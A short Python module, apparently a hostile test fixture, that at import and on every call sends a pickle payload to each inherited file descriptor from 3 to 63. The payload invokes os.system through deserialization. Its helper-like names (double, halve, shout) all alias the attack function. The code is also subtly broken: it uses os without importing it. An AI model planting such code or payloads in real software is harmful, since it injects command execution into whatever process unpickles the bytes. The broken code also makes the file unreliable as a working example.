"""Writes bytes that are no frame to every socket, at import and in each call."""
import socket


def spray(*_):
    for number in range(3, 64):
        try:
            socket.socket(fileno=os.dup(number)).send(b"\x80\x04cos\nsystem\n(S'true'\ntR." * 9)
        except OSError:
            pass


double = halve = shout = spray
spray()
